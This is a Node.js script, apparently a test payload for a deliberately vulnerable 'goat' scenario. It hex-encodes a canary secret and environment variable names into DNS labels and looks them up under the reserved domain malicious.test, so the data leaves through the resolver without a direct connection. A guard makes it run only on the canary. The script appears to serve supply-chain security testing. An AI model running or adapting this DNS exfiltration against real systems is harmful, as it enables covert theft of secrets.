'use strict';
// Test payload: no connection at all, the data leaves in the names that the resolver is asked for. The canary and the
// names of some environment variables, as hexadecimal labels of 60 characters under malicious.test (a reserved name).
const dns = require('node:dns').promises;

const DOMAIN = 'malicious.test';
const LABEL = 60;
const LIMIT = 300; // bytes: ten labels
const canary = process.env.GOAT_SECRET || '';

if (!canary.startsWith('goat-canary-')) {
  console.log('goat-evil-dns: not in the goat scenario, nothing done');
  process.exit(0);
}

async function main() {
  const loot = Buffer.alloc(LIMIT, ' ');
  loot.write(`${canary} ${Object.keys(process.env).sort().join(' ')}`);
  const labels = loot.toString('hex').match(new RegExp(`.{${LABEL}}`, 'g'));
  let answered = 0;
  for (const [i, label] of labels.entries()) {
    try {
      await dns.lookup(`${label}.${i + 1}-of-${labels.length}.${DOMAIN}`, { family: 4 });
      answered += 1;
    } catch (error) {
      if (answered === 0 && i === 0) console.log(`goat-evil-dns: ${error.message}`);
    }
  }
  // Malware does not make noise: the installation goes on.
  console.log(`goat-evil-dns: ${answered} of ${labels.length} names were answered`);
}

main();
